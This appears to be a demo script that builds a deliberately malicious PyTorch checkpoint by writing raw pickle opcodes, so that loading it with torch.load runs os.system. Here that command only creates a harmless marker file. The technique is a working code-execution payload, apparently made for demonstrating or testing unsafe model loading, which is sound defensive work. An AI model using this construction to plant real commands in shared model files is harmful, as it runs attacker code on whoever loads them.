"""Write a malicious PyTorch-style checkpoint for the demo, opcode by opcode.

The checkpoint's ``data.pkl`` would call ``os.system`` when loaded with ``torch.load``: it is
written as raw pickle opcodes and is never loaded by anything here. Its command only creates a
harmless marker file, so even a careless load would be visible and not destructive.
"""

from __future__ import annotations

import sys
import zipfile
from pathlib import Path


def _unicode(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data  # SHORT_BINUNICODE


def malicious_pickle(command: str) -> bytes:
    """Protocol 4: os.system(command) via STACK_GLOBAL + REDUCE."""
    body = (
        _unicode("os")
        + _unicode("system")
        + b"\x93"  # STACK_GLOBAL
        + _unicode(command)
        + b"\x85"  # TUPLE1
        + b"R"  # REDUCE
        + b"."  # STOP
    )
    return b"\x80\x04" + body


def main(out: str) -> int:
    path = Path(out)
    path.parent.mkdir(parents=True, exist_ok=True)
    marker = path.parent / "LOADED-A-MALICIOUS-MODEL"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("evil_model/data.pkl", malicious_pickle(f"touch {marker}"))
        archive.writestr("evil_model/version", "3\n")
        archive.writestr("evil_model/byteorder", "little")
    print(f"wrote {path} (a checkpoint whose data.pkl calls os.system)")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1] if len(sys.argv) > 1 else ".cache/demo/evil_model.pt"))
